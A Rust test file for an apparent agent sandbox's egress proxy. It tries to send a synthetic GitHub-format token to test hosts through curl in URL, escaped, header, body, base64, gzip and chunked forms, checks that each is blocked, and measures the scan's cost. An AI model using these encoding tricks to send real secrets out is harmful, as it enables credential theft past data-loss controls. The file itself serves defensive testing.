//! Credentials in what the agent sends.

use super::*;

/// `outside.test` has the default, and `forbidden.test` is exempt.
const SEARCHED: &str = "\
egress:
  allow: [outside.test, {host: forbidden.test, dlp: off}]
  routes:
    - name: api
      host: api.anthropic.com
      paths: [/v1/, /echo]
      inject: {token: E2E_API_KEY, scheme: header}";

/// A token of GitHub's format. It is put together here, because this file is no secret.
fn token() -> String {
    format!("ghp{}", "_Zk8Qw3Rt9Yp2Lm5Xc7Vb4Nd6Hf1Jg0Ks8Tv2")
}

/// Requests that hold the token, as arguments of curl. `URL` stands for scheme and host. No parameter has the name of a
/// credential, which would be removed on the route.
const REQUESTS: [(&str, &str); 7] = [
    ("url", "'URL/echo?case=url&text=TOKEN'"),
    ("escaped", "'URL/echo?case=escaped&text=%67%68%70%5FREST'"),
    ("header", "-H 'X-Request-Id: TOKEN' 'URL/echo?case=header'"),
    ("body", "-H 'Content-Type: application/json' --data '{\"text\": \"see TOKEN there\"}' 'URL/echo?case=body'"),
    ("base64", "--data \"$(printf 'key: TOKEN' | base64 -w0)\" 'URL/echo?case=base64'"),
    ("gzip", "-H 'Content-Encoding: gzip' --data-binary @/tmp/packed 'URL/echo?case=gzip'"),
    ("chunked", "-H 'Transfer-Encoding: chunked' --data-binary @/tmp/large 'URL/echo?case=chunked'"),
];

/// Sends each request to a host, and returns what the agent is answered and its status.
fn send(bottle: &Bottle, host: &str) -> Vec<(&'static str, String)> {
    let token = token();
    let prepare = format!(
        "printf 'key: {token}' | gzip > /tmp/packed; (head -c 300000 /dev/zero | tr '\\0' '\\n'; echo {token}; head -c 300000 \
         /dev/zero | tr '\\0' '\\n') > /tmp/large"
    );
    sh(bottle, &prepare).ok();
    let sent = REQUESTS.iter().map(|(name, arguments)| {
        let arguments = arguments.replace("URL", &format!("https://{host}"));
        let arguments = arguments.replace("TOKEN", &token).replace("REST", &token[4..]);
        (*name, sh(bottle, &format!("curl -sS -m 30 -w ' %{{http_code}}' {arguments}")).stdout)
    });
    sent.collect()
}

#[test]
#[ignore = "needs a container engine"]
fn a_credential_does_not_leave_the_bottle_unless_the_host_is_exempt() {
    let lab = Lab::new("dlp");
    let tokens = Tokens::of(&lab);
    let bottle = launch_of(&lab, &tokens, SEARCHED);
    for host in [OUTSIDE, API] {
        for (name, answer) in send(&bottle, host) {
            assert!(answer.ends_with(" 403") && answer.contains("\"rule\": \"dlp\""), "{host} {name}: {answer}");
            assert!(answer.contains("github-token") && answer.contains("dlp: off"), "{host} {name}: {answer}");
            assert!(!answer.contains(&token()[4..]), "{host} {name}: {answer}");
        }
    }
    // What arrived of the bodies that were cut in the middle is no whole request, and holds nothing of the token.
    let outside = serde_json::to_string(&lab.outside.events()).unwrap();
    assert!(!outside.contains(&token()[4..]) && !outside.contains(&base64(&token())[8..24]), "{outside}");
    for (name, _) in REQUESTS {
        assert!(arrived(&lab, &format!("case={name}")).is_empty(), "{name} arrived");
    }
    // The bottle's own credential may go nowhere but to its route.
    let own = |host: &str| {
        let script =
            format!("curl -sS -o /dev/null -w '%{{http_code}}' --data 'own {}' https://{host}/echo?own", tokens.api);
        sh(&bottle, &script).stdout
    };
    assert_eq!((own(OUTSIDE), own(API)), ("403".to_owned(), "200".to_owned()));

    // The same requests pass where the search is off, so that the test above can fail.
    for (name, answer) in send(&bottle, FORBIDDEN) {
        assert!(answer.ends_with(" 200"), "{name}: {answer}");
        assert_eq!(arrived(&lab, &format!("case={name}")).len(), 1, "{name}");
    }

    let log = docker(["logs", &egress_container(&bottle)]).stdout;
    assert!(!log.contains(&token()[4..]), "{log}");
    tokens.assert_absent("egress's log", &log);
    let lines = log.lines().map(|line| serde_json::from_str::<bottle::sidecars::audit::AuditLine>(line).unwrap());
    let found: Vec<String> = lines
        .filter(|line| line.reason.as_deref() == Some("dlp"))
        .filter_map(|line| line.finding)
        .map(|finding| format!("{} {}", finding.pattern, finding.place))
        .collect();
    let expected =
        ["url", "url", "header x-request-id", "body at byte 14"].map(|place| format!("github-token {place}"));
    assert_eq!(found[..4], expected, "{found:?}");
    assert_eq!(found.last().map(String::as_str), Some("bottle-secret body at byte 4"), "{found:?}");
    lab.close(&bottle);
}

#[test]
#[ignore = "needs a container engine"]
fn the_search_for_credentials_costs_little() {
    let lab = Lab::new("dlp-cost");
    let tokens = Tokens::of(&lab);
    let bottle = launch_of(&lab, &tokens, SEARCHED);
    // The processes' times in user and kernel mode, in ticks of 10 ms.
    let used = || -> f64 {
        let stats =
            docker(["exec", &egress_container(&bottle), "sh", "-c", "cat /proc/[0-9]*/stat 2>/dev/null || true"]);
        let fields = stats.stdout.lines().filter_map(|line| line.rsplit_once(") "));
        let ticks =
            fields.flat_map(|(_, rest)| rest.split(' ').skip(11).take(2).map(|ticks| ticks.parse::<f64>().unwrap()));
        ticks.sum::<f64>() * 10.0
    };
    // For each host: the processor's time of egress, and the median that the agent waits.
    let mut totals = [(0.0, 0.0); 2];
    for _ in 0..3 {
        for (host, (processor, waited)) in [OUTSIDE, FORBIDDEN].iter().zip(&mut totals) {
            let before = used();
            let printed = python(&bottle, include_str!("turns.py"), &[&format!("https://{host}/upload")]);
            *processor += (used() - before) / 30.0;
            *waited += printed.ok().trim().parse::<f64>().unwrap() / 3.0;
        }
    }
    let [(searched, with), (passed, without)] = totals;
    figure(format_args!(
        "a request of 1 MB of JSON takes {searched:.1} ms of egress's processor with the search for credentials and \
         {passed:.1} ms without it; the agent waits {with:.1} ms and {without:.1} ms (3 x 10 requests each, in turn)"
    ));
    assert!(searched - passed < 10.0, "{searched} {passed}");
    lab.close(&bottle);
}
